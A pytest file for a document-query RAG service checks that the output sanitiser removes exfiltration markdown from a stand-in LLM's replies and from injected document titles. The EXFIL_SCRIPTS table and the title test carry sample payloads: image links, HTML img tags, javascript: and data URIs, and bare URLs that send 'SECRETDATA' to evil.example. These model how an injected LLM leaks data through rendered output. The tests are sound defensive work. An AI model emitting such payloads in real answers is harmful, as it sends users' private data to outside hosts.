"""Output sanitising through the service: the stand-in LLM tries to exfiltrate on every output path.

The stand-in (not vLLM; tests/support/standins/openai_server.py) emits exfiltration
markdown split across stream chunks at awkward places. The client must
receive none of it, in /v1/query (JSON and SSE) and the chat facade (JSON
and stream). The sanitiser itself is proven in test_sanitize_differential.py.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from docquery.core.domain import Citation
from docquery.rag.citation_fields import sources_markdown
from tests.support.api_harness import (
    Harness,
    JwtIssuer,
    bearer,
    chat_stream_text,
    llm_generator,
    make_harness,
    sse_events,
)
from tests.support.markdown_oracle import violations
from tests.support.standins.openai_server import StandInOpenAIServer


def assert_safe(out: str, allowed_hosts: tuple[str, ...] = ()) -> None:
    assert not violations(out, allowed_hosts), (out, violations(out, allowed_hosts))


# -- through the service, with the stand-in LLM -------------------------------------

EXFIL_SCRIPTS = {
    "inline-image": ["The policy gives 25 days [S1]. ", "![lo", "go](https://ev", "il.example/c?d=SECRET", "DATA) ok."],
    "reference-image": ["See ![x][", "r1] now.", "\n\n[r1]: https://evil", ".example/p?q=SECRETDATA\n"],
    "raw-html": ["Answer [S1]. <im", "g src=https://evil.example/?SECRETDATA", ">"],
    "link": ["Read [here](ht", "tps://evil.example/?SECRETDATA) [S1]."],
    "javascript": ["[x](javas", "cript:alert('SECRETDATA'))"],
    "data-uri": ["![a](data:image/png;base64,", "U0VDUkVUREFUQQ==)"],
    "bare-url": ["visit https://evil.", "example/SECRETDATA now"],
    "protocol-relative": ["![a](//evil.exa", "mple/SECRETDATA)"],
}


@pytest.fixture(scope="module")
def llm_harness(
    tmp_path_factory: pytest.TempPathFactory, jwt_issuer: JwtIssuer, server: StandInOpenAIServer
) -> Iterator[Harness]:
    tmp: Path = tmp_path_factory.mktemp("sanitize")
    for h in make_harness(tmp, generator=llm_generator(server), jwks=jwt_issuer.jwks()):
        h.corpus.add("vac", ["The vacation policy grants 25 days of paid leave per year."], ["eng"])
        yield h


def _assert_clean(text: str) -> None:
    assert "evil" not in text.lower()
    assert "SECRETDATA" not in text and "U0VDUkVUREFUQQ" not in text
    assert_safe(text)


@pytest.mark.parametrize("script", sorted(EXFIL_SCRIPTS))
def test_exfiltration_is_neutralised_in_every_mode(
    llm_harness: Harness, server: StandInOpenAIServer, script: str
) -> None:
    server.config.reply = EXFIL_SCRIPTS[script]
    auth = bearer("tok-alice-eng")
    q = {"question": "how many vacation days"}

    r = llm_harness.client.post("/v1/query", json=q, headers=auth)
    assert r.status_code == 200 and r.json()["mode"] == "generative"
    _assert_clean(r.json()["answer"])

    r = llm_harness.client.post("/v1/query", json={**q, "stream": True}, headers=auth)
    assert r.status_code == 200
    events = sse_events(r.text)
    assert events[0][0] == "citations" and events[-1][0] == "done"
    _assert_clean("".join(d["text"] for e, d in events if e == "delta"))

    chat = {"model": "docquery", "messages": [{"role": "user", "content": q["question"]}]}
    r = llm_harness.client.post("/v1/chat/completions", json=chat, headers=auth)
    assert r.status_code == 200
    _assert_clean(r.json()["choices"][0]["message"]["content"])

    r = llm_harness.client.post("/v1/chat/completions", json={**chat, "stream": True}, headers=auth)
    assert r.status_code == 200 and r.text.rstrip().endswith("data: [DONE]")
    text, _ = chat_stream_text(r.text)
    _assert_clean(text)


def test_document_titles_are_plain_text_in_json_and_inert_where_put_into_markdown(harness: Harness) -> None:
    # Titles come from documents, so an injected title is an exfiltration channel too: JSON carries
    # it as text (never escaped), and the Markdown the service writes escapes it there.
    title = "Policy ![t](https://evil.example/t.png?d=SECRET) <img src=x> sys.argv[i]"
    harness.corpus.add("titled", ["expense policy for travel claims"], ["eng"], title=title)
    listed = harness.client.get("/v1/documents", headers=bearer("tok-alice-eng")).json()["documents"]
    search = harness.client.post(
        "/v1/search", json={"query": "expense policy travel"}, headers=bearer("tok-alice-eng")
    ).json()
    titles = [d["title"] for d in listed] + [c["title"] for c in search["citations"]]
    assert titles, "the document is visible to its group"
    assert all(shown == title for shown in titles)
    citations = [Citation.model_validate(c) for c in search["citations"]]
    footer = sources_markdown(citations, harness.components.pipeline.sanitizer)
    assert "[S1] Policy" in footer
    assert not violations(footer) and "<img" not in footer
